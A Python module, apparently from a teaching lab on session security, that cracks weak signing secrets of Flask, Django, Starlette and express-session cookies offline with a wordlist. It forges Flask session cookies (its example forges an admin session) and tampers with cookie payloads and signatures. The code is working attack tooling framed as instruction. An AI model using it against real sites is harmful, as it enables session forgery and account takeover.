"""Attacks on signed cookies: crack a weak secret offline, forge a session, tamper.

An attacker who captured one signed cookie can try candidate secrets on their own machine,
as fast as the machine computes HMACs, without sending a single request: the cookie holds
both the signed bytes and the signature. Every candidate that reproduces the signature is
the key, and the key signs anything. The public Flask-Unsign wordlist (55,982 secrets found
in public code) is where an attacker starts; the seed's ``some secret key`` is on it.

>>> from sessionlab.cookies import sign_express
>>> result = crack(sign_express("abc", "some secret key"), progress=False)
>>> result.secret, result.guesses
('some secret key', 21273)
"""

from __future__ import annotations

import functools
import hashlib
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any, Literal
from urllib.parse import quote

from tqdm import tqdm

from .cookies import EXPRESS, CookieAnatomy, CookieFormat, decode_cookie, readings, sign_flask
from .cookies.formats import b64_standard, b64url
from .wordlist import load_wordlist

CHUNK = 4096  # candidates between progress-bar updates: cheap enough to be invisible

# HMAC (RFC 2104) by hand: the key padded to one 64-byte block, XORed with 0x36 (inner) and
# 0x5C (outer). bytes.translate does the XOR in C; this avoids two hmac objects per guess.
_INNER = bytes(byte ^ 0x36 for byte in range(256))
_OUTER = bytes(byte ^ 0x5C for byte in range(256))
_BLOCK = 64  # SHA-1 and SHA-256 both hash 64-byte blocks


@dataclass(frozen=True)
class CrackResult:
    """The outcome of a wordlist attack: the secret (or None), and how long it took."""

    secret: str | None
    guesses: int
    seconds: float
    kind: str = ""
    wordlist_size: int = 0

    @property
    def rate(self) -> float:
        """Guesses per second."""
        return self.guesses / self.seconds if self.seconds > 0 else float("inf")

    def __str__(self) -> str:
        # No timings here: they differ on every run; print result.rate for those.
        tried = f"{self.guesses:,} of {self.wordlist_size:,} guesses"
        if self.secret is None:
            return f"not found: {tried}, none reproduced the {self.kind} cookie's signature"
        return f"found {self.secret!r} after {tried}"


def crack(
    value: str | CookieAnatomy,
    wordlist: Sequence[str] | None = None,
    progress: bool = True,
) -> CrackResult:
    """Try every secret of ``wordlist`` (the public Flask-Unsign list by default) on a
    signed cookie of any known format, offline, with a progress bar.

    A cookie that two formats read (Flask's and Starlette's have one shape) is tried with
    each format's key derivation in turn; ``kind`` of the result says which one matched.

    >>> from sessionlab.cookies import sign_flask
    >>> str(crack(sign_flask({"name": "alice"}, "hunter2"), ["a", "hunter2"], progress=False))
    "found 'hunter2' after 2 of 2 guesses"
    """
    anatomy = value if isinstance(value, CookieAnatomy) else decode_cookie(value)
    if anatomy.format is None:
        raise ValueError(f"cannot crack this cookie: it is {anatomy.problem}")
    words = load_wordlist() if wordlist is None else list(wordlist)
    candidates = _encoded_default() if wordlist is None else _encode(words)
    result = CrackResult(None, 0, 0.0, anatomy.kind, len(candidates))
    for reading, cookie_format in readings(anatomy):
        result = _crack_one(reading, cookie_format, words, candidates, progress)
        if result.secret is not None:
            return result
    return result


def _crack_one(
    anatomy: CookieAnatomy,
    cookie_format: CookieFormat,
    words: Sequence[str],
    candidates: Sequence[bytes],
    progress: bool,
) -> CrackResult:
    search = _searcher(anatomy, cookie_format)
    found, guesses = None, 0
    bar = tqdm(
        total=len(candidates),
        desc=f"cracking the {anatomy.kind} cookie",
        unit=" guesses",
        unit_scale=len(candidates) >= 10_000,
        disable=not progress,
        file=sys.stderr,
        mininterval=0.2,
    )
    started = time.perf_counter()
    with bar:
        for start in range(0, len(candidates), CHUNK):
            chunk = candidates[start : start + CHUNK]
            index = search(chunk)
            if index >= 0:
                found, guesses = words[start + index], start + index + 1
                bar.update(index + 1)
                break
            guesses += len(chunk)
            bar.update(len(chunk))
    seconds = time.perf_counter() - started
    if progress:  # the bar's last newline goes out now, before whatever the caller prints next
        sys.stderr.flush()
    return CrackResult(found, guesses, seconds, anatomy.kind, len(candidates))


def _encode(words: Sequence[str]) -> tuple[bytes, ...]:
    return tuple(word.encode("utf-8", "surrogateescape") for word in words)


@functools.cache
def _encoded_default() -> tuple[bytes, ...]:
    return _encode(load_wordlist())


def _searcher(
    anatomy: CookieAnatomy, cookie_format: CookieFormat
) -> Callable[[Sequence[bytes]], int]:
    """The check for this kind of cookie, with its hash, salt and signed bytes bound once."""
    hash_new = getattr(hashlib, cookie_format.hash_name)  # the C constructor: no name lookup
    return functools.partial(
        _search,
        hash_new,
        cookie_format.salt,
        cookie_format.concat,
        anatomy.signed,
        anatomy.digest,
    )


def _search(
    hash_new: Callable[..., Any],
    salt: bytes | None,
    concat: bool,
    message: bytes,
    target: bytes,
    words,
) -> int:
    """Index of the word w whose HMAC over ``message`` equals ``target``, else -1.

    With a ``salt`` the HMAC key is first derived as HMAC(w, salt) (Flask, our Signer) or,
    with ``concat``, as HASH(salt + w) (Django, Starlette); without one, w itself is the
    key (express-session). The HMACs are inlined: this loop is the whole cost of a crack,
    and one branch per word costs nothing next to four hashes.
    """
    inner, outer, block = _INNER, _OUTER, _BLOCK
    for index, word in enumerate(words):
        if concat:
            key = hash_new(salt + word).digest().ljust(block, b"\0")
            signature = hash_new(
                key.translate(outer) + hash_new(key.translate(inner) + message).digest()
            ).digest()
            if signature == target:
                return index
            continue
        if len(word) > block:
            word = hash_new(word).digest()
        key = word.ljust(block, b"\0")
        if salt is not None:
            derived = hash_new(
                key.translate(outer) + hash_new(key.translate(inner) + salt).digest()
            ).digest()
            key = derived.ljust(block, b"\0")
        signature = hash_new(
            key.translate(outer) + hash_new(key.translate(inner) + message).digest()
        ).digest()
        if signature == target:
            return index
    return -1


def forge_flask(payload: dict[str, Any], secret: str | CrackResult) -> str:
    """A Flask session cookie for any ``payload``, signed with a cracked ``secret``.

    A cookie-session server cannot tell it from one it issued itself.

    >>> forged = forge_flask({"name": "admin"}, "some secret key")
    >>> decode_cookie(forged).payload
    {'name': 'admin'}
    """
    key = secret.secret if isinstance(secret, CrackResult) else secret
    if key is None:
        raise ValueError("the crack found no secret: nothing to forge with")
    return sign_flask(payload, key)


def tamper(value: str, part: Literal["payload", "signature"] = "payload") -> str:
    """The cookie with one character of its payload (or session id) or signature changed.

    The payload's first character moves to its neighbour in the base64 alphabet: a first
    character always carries six full bits (a last one may carry only padding bits and
    decode to the same bytes), so the decoded bytes change. For the signature, the lowest
    bit of its first byte is flipped, which changes its second base64 character. A value
    in no signed format we know (say, a bare random id) has its first character changed.
    The result keeps the input's URL-encoding.

    >>> tamper("s:abc.4n49lb1e6wSwqj3z/eJ/L/KrMgdgrdZXCS1ZU/V87VY")[:8]
    's:bbc.4n'
    >>> from sessionlab.cookies import sign_express, verify
    >>> verify(tamper(sign_express("abc", "k"), "signature"), "k")
    False
    >>> tamper("Zr3opaque-id")
    'ar3opaque-id'
    """
    anatomy = decode_cookie(value)
    text = anatomy.value
    if part == "signature":
        if anatomy.kind == "unknown":
            raise ValueError(f"this cookie has no signature to tamper with: {anatomy.problem}")
        flipped = bytes([anatomy.digest[0] ^ 1]) + anatomy.digest[1:]
        encoded = b64_standard(flipped) if anatomy.kind == "express" else b64url(flipped)
        text = text[: len(text) - len(anatomy.signature)] + encoded
    elif text:
        start = len(EXPRESS.prefix) if anatomy.kind == "express" else int(anatomy.compressed)
        text = text[:start] + _neighbour(text[start]) + text[start + 1 :]
    else:
        raise ValueError("cannot tamper with an empty cookie")
    return quote(text, safe="") if "%" in value else text


def _neighbour(char: str) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return alphabet[(alphabet.index(char) + 1) % len(alphabet)] if char in alphabet else "A"
